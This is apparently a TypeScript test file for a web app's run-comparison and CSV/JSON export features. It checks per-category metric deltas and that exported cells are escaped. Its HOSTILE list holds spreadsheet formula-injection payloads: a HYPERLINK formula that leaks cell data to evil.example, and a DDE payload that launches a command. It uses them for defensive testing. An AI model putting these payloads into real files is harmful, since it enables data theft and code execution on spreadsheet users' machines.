// @vitest-environment jsdom
/**
 * The results page's comparison of two runs and its exports, as a qualifier sees them: runs whose
 * outcomes and metrics come from the real engine (src/testing-center), put in the query cache as the
 * page's queries would; the user picks the reference run, reads the per-value deltas (regressions
 * first) and the messages that changed, and downloads the CSV and JSON files, whose content is read
 * back from the blob handed to the browser.
 */
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { useState } from 'react';
import { cleanup, fireEvent, render, screen, within } from '@testing-library/react';
import { QueryClient, QueryClientProvider } from '@tanstack/react-query';
import { createMemoryRouter, RouterProvider } from 'react-router';
import Papa from 'papaparse';
import type { DomainRules } from '../../../contract/testing-evaluation';
import type { TestMessageRow, TestRunDetail } from '../../../contract/testing-runs';
import { initI18n } from '../../../i18n/setup';
import { metricsByKind } from '../../../testing-center/metrics';
import { evaluateMessage } from '../../../testing-center/outcomes';
import { CompareView } from './compare-view';
import { testRunQueries } from './queries';
import { ResultPage } from './result-page';

beforeAll(() => initI18n('fr'));
afterEach(cleanup);

const PROJECT = 'p1';
// Categories in scope (v1): anything else obtained counts as NO_DOMAIN_RULE.
const RULES: DomainRules = { v1: { inScope: ['Devis', 'Résiliation'], skipped: [], merged: [] }, v2: { kinds: [] } };
const entry = (value: string) => ({ key: 'category', document: null, format: 'string' as const, value });

function message(messageId: string, expected: string | null, obtained: string[], rules = RULES): TestMessageRow {
  const expectedValues = { categories: { qualified: expected !== null, values: expected === null ? [] : [entry(expected)] } };
  const obtainedValues = { categories: obtained.map(entry) };
  const outcomes = evaluateMessage({ messageId, expected: expectedValues, obtained: obtainedValues }, ['categories'], rules);
  return { messageId, name: `${messageId}.eml`, inBank: true, status: 'success', error: null, durationMs: 12, expected: expectedValues, obtained: obtainedValues, outcomes, firedRules: [] };
}

function run(id: string, createdAt: string, messages: TestMessageRow[], rules = RULES): TestRunDetail {
  return {
    id,
    status: 'finished',
    environmentId: 'env',
    environmentName: 'Production',
    setId: 'set',
    setName: 'Banque',
    messageId: null,
    messageName: null,
    versionId: null,
    versionName: null,
    total: messages.length,
    done: messages.length,
    counts: { success: messages.length, error: 0, timeout: 0 },
    microF1: null,
    error: null,
    createdAt,
    startedAt: createdAt,
    finishedAt: createdAt,
    author: null,
    kinds: ['categories'],
    rules,
    messages,
    metrics: metricsByKind(messages.map((row) => row.outcomes), ['categories']),
  };
}

// The reference run, then the run after a rule change: m1 goes wrong (Devis lost to Résiliation),
// m2 goes right (Résiliation found where nothing was); the others stay as they were.
const before = run('run-a', '2026-03-01T10:00:00.000Z', [
  message('m1', 'Devis', ['Devis']),
  message('m2', 'Résiliation', []),
  message('m3', null, ['Devis']),
  message('m4', 'Devis', ['Sinistre']),
  message('m5', 'Devis', ['Devis']),
]);
const after = run('run-b', '2026-03-02T10:00:00.000Z', [
  message('m1', 'Devis', ['Résiliation']),
  message('m2', 'Résiliation', ['Résiliation']),
  message('m3', null, ['Devis']),
  message('m4', 'Devis', ['Sinistre']),
  message('m5', 'Devis', ['Devis']),
]);
// Categories named by a tenant (and written by senders into expected values) that a spreadsheet would run.
const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"ok")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1)', '\t=1+1', ' =1+1'];
const HOSTILE_RULES: DomainRules = { v1: { inScope: HOSTILE, skipped: [], merged: [] }, v2: { kinds: [] } };
const hostile = run('run-c', '2026-03-03T10:00:00.000Z', HOSTILE.map((value, index) => message(`h${index}`, value, [value], HOSTILE_RULES)), HOSTILE_RULES);

const { messages: _a, kinds: _ak, rules: _ar, metrics: _am, ...beforeSummary } = before;
const { messages: _b, kinds: _bk, rules: _br, metrics: _bm, ...afterSummary } = after;

/** A query client holding what the page's queries would have fetched (never stale: no request). */
function cachedClient(): QueryClient {
  const client = new QueryClient({ defaultOptions: { queries: { staleTime: Infinity, retry: false } } });
  client.setQueryData(testRunQueries.detail(PROJECT, before.id).queryKey, before);
  client.setQueryData(testRunQueries.detail(PROJECT, after.id).queryKey, after);
  client.setQueryData(testRunQueries.detail(PROJECT, hostile.id).queryKey, hostile);
  client.setQueryData(testRunQueries.list(PROJECT).queryKey, [afterSummary, beforeSummary]);
  return client;
}

const cells = (row: Element) => within(row as HTMLElement).getAllByRole('cell').map((cell) => cell.textContent);

describe('compare two runs', () => {
  function Comparison() {
    const [referenceId, setReferenceId] = useState('');
    return <CompareView projectId={PROJECT} run={after} runs={[afterSummary, beforeSummary]} kind="categories" referenceId={referenceId} onReference={setReferenceId} />;
  }

  it('shows per-value deltas against the chosen reference run, regressions first, and the messages that changed', async () => {
    render(
      <QueryClientProvider client={cachedClient()}>
        <Comparison />
      </QueryClientProvider>,
    );
    // Nothing compared until a reference is chosen; the run itself is not offered as its own reference.
    const select = screen.getByLabelText('Test de référence') as HTMLSelectElement;
    expect([...select.options].map((option) => option.value)).toEqual(['', 'run-a']);
    expect(screen.queryByRole('table')).toBeNull();
    fireEvent.change(select, { target: { value: 'run-a' } });

    const table = await screen.findByRole('table', { name: 'Comparer avec un autre test' });
    const rows = [...table.querySelectorAll('tbody tr')];
    const order = rows.map((row) => [row.getAttribute('data-delta'), row.getAttribute('data-trend')]);
    // Regressions first (Devis: F1 0.8 → 0.5), then improvements (Résiliation: F1 0 → 0.667; NO_CATEGORY:
    // one FP fewer), then unchanged values; micro and macro close the table.
    expect(order.slice(0, 1)).toEqual([['Devis', 'regression']]);
    expect(order.slice(1, 3).map(([, trend]) => trend)).toEqual(['improvement', 'improvement']);
    expect(order.slice(1, 3).map(([value]) => value).sort()).toEqual(['NO_CATEGORY', 'Résiliation']);
    expect(order.slice(3, -2).every(([, trend]) => trend === 'unchanged')).toBe(true);
    expect(order.slice(-2).map(([value]) => value)).toEqual(['micro', 'macro']);

    const row = (value: string) => table.querySelector(`tr[data-delta="${value}"]`)!;
    // Value, trend, Δ TP, Δ FP, Δ FN, Δ precision, Δ recall, Δ F1 (hand-computed).
    expect(cells(row('Devis'))).toEqual(['Devis', 'Régression', '-1', '0', '+1', '0.000', '-0.333', '-0.300']);
    expect(cells(row('Résiliation'))).toEqual(['Résiliation', 'Amélioration', '+1', '+1', '-1', '+0.500', '+1.000', '+0.667']);
    expect(cells(row('NO_CATEGORY')).slice(0, 5)).toEqual(['NO_CATEGORY (aucune catégorie)', 'Amélioration', '0', '-1', '0']);
    // Special values stay visible in the comparison, never dropped.
    expect(row('NO_QUALIFIED').getAttribute('data-trend')).toBe('unchanged');
    expect(row('NO_DOMAIN_RULE').getAttribute('data-trend')).toBe('unchanged');
    expect(cells(row('micro'))[0]).toBe('Moyenne micro');

    // Messages whose error count changed, the worse first, by name.
    const changed = [...document.querySelectorAll('tr[data-changed-message]')].map(cells);
    expect(changed).toEqual([
      ['m1.eml', '0', '2'],
      ['m2.eml', '2', '0'],
    ]);
  });
});

describe('exports', () => {
  let downloads: { name: string; type: string; text: Promise<string> }[] = [];

  function renderResults(runId = after.id) {
    downloads = [];
    // The browser's download: the blob handed to an object URL, then the link clicked with its name.
    let lastBlob: Blob | null = null;
    URL.createObjectURL = (blob: Blob) => {
      lastBlob = blob;
      return 'blob:export';
    };
    URL.revokeObjectURL = () => undefined;
    HTMLAnchorElement.prototype.click = function click(this: HTMLAnchorElement) {
      downloads.push({ name: this.download, type: lastBlob!.type, text: lastBlob!.text() });
    };
    const router = createMemoryRouter([{ path: '/project/:projectId/testing-center/messages-bank/tests/:testId', element: <ResultPage /> }], {
      initialEntries: [`/project/${PROJECT}/testing-center/messages-bank/tests/${runId}`],
    });
    render(
      <QueryClientProvider client={cachedClient()}>
        <RouterProvider router={router} />
      </QueryClientProvider>,
    );
  }

  it('downloads the metrics as CSV: a header, every value with its counts and ratios, the special values included', async () => {
    renderResults();
    fireEvent.click(await screen.findByRole('button', { name: 'Exporter les métriques (CSV)' }));
    expect(downloads.map((download) => [download.name, download.type])).toEqual([['test-run-b-metrics.csv', 'text/csv;charset=utf-8']]);
    const text = await downloads[0]!.text;
    // For a French spreadsheet: semicolons, ratios with a decimal comma (four decimals at most).
    expect(text.replace(/^\uFEFF/, '').split('\r\n')[0]).toBe('kind;value;tp;fp;fn;precision;recall;f1;support');
    const [header, ...rows] = Papa.parse<string[]>(text.trim(), { delimiter: ';' }).data;
    expect(header).toEqual(['kind', 'value', 'tp', 'fp', 'fn', 'precision', 'recall', 'f1', 'support']);
    const byValue = new Map(rows.map((row) => [row[1], row]));
    expect(byValue.get('Devis')).toEqual(['categories', 'Devis', '1', '0', '2', '1', '0,3333', '0,5', '3']);
    expect(byValue.get('Résiliation')).toEqual(['categories', 'Résiliation', '1', '1', '0', '0,5', '1', '0,6667', '1']);
    // m3 is not qualified: one FN of NO_QUALIFIED; m4 obtained a category outside the rules.
    expect(byValue.get('NO_QUALIFIED')?.slice(2, 5)).toEqual(['0', '0', '1']);
    expect(byValue.get('NO_DOMAIN_RULE')?.slice(2, 5)).toEqual(['0', '1', '0']);
    expect([...byValue.keys()].slice(-2)).toEqual(['micro', 'macro']);
  });

  it('downloads the messages as CSV, one row per counted value with outcome and rule, and the whole run as JSON', async () => {
    renderResults();
    fireEvent.click(await screen.findByRole('button', { name: 'Exporter les messages (CSV)' }));
    fireEvent.click(screen.getByRole('button', { name: 'Exporter (JSON)' }));
    expect(downloads.map((download) => [download.name, download.type])).toEqual([
      ['test-run-b-messages.csv', 'text/csv;charset=utf-8'],
      ['test-run-b.json', 'application/json'],
    ]);
    const [header, ...rows] = Papa.parse<string[]>((await downloads[0]!.text).trim(), { delimiter: ';' }).data;
    expect(header).toEqual(['messageId', 'name', 'status', 'kind', 'value', 'outcome', 'rule', 'expected', 'obtained']);
    // Each message named by its file name beside its id.
    expect(rows.every((row) => row[1] === `${row[0]}.eml`)).toBe(true);
    const of = (messageId: string) => rows.filter((row) => row[0] === messageId).map((row) => [row[4], row[5]]);
    expect(of('m1').sort()).toEqual([
      ['Devis', 'FN'],
      ['Résiliation', 'FP'],
    ]);
    expect(of('m3')).toEqual([['NO_QUALIFIED', 'FN']]);
    expect(of('m4')).toContainEqual(['NO_DOMAIN_RULE', 'FP']);
    expect(rows.find((row) => row[0] === 'm4' && row[4] === 'NO_DOMAIN_RULE')?.[6]).toBe('v1.noDomainRule');
    expect(rows.every((row) => row[2] === 'success' && row[3] === 'categories')).toBe(true);

    const json = JSON.parse(await downloads[1]!.text) as { id: string; metrics: TestRunDetail['metrics']; messages: { messageId: string; status: string }[] };
    expect(json.id).toBe('run-b');
    expect(json.messages.map((entry) => entry.messageId)).toEqual(['m1', 'm2', 'm3', 'm4', 'm5']);
    expect(json.metrics.categories?.perValue.map((row) => row.value)).toEqual(expect.arrayContaining(['Devis', 'Résiliation', 'NO_QUALIFIED', 'NO_DOMAIN_RULE']));
    expect(json.metrics.categories?.micro.f1).toBeCloseTo(after.metrics.categories!.micro.f1, 10);
  });

  it('writes category names and values a spreadsheet would run as text, in both CSV files', async () => {
    renderResults(hostile.id);
    fireEvent.click(await screen.findByRole('button', { name: 'Exporter les métriques (CSV)' }));
    fireEvent.click(screen.getByRole('button', { name: 'Exporter les messages (CSV)' }));
    const [metrics, messages] = await Promise.all(downloads.map((download) => download.text));
    const runsAsFormula = (cell: string) => /^[\s\p{Cc}]*[=+\-@]/u.test(cell);
    const metricRows = Papa.parse<string[]>(metrics!.replace(/^\uFEFF/, '').trimEnd(), { newline: '\r\n', delimiter: ';' }).data.slice(1);
    expect(metricRows.filter((row) => HOSTILE.includes(row[1]!.slice(1))).map((row) => row[1])).toEqual(expect.arrayContaining(HOSTILE.map((value) => `'${value}`)));
    expect(metricRows.flat().filter(runsAsFormula)).toEqual([]);
    const messageRows = Papa.parse<string[]>(messages!.replace(/^\uFEFF/, '').trimEnd(), { newline: '\r\n', delimiter: ';' }).data.slice(1);
    expect(messageRows.map((row) => row[4])).toEqual(expect.arrayContaining(HOSTILE.map((value) => `'${value}`)));
    expect(messageRows.flat().filter(runsAsFormula)).toEqual([]);
  });
});
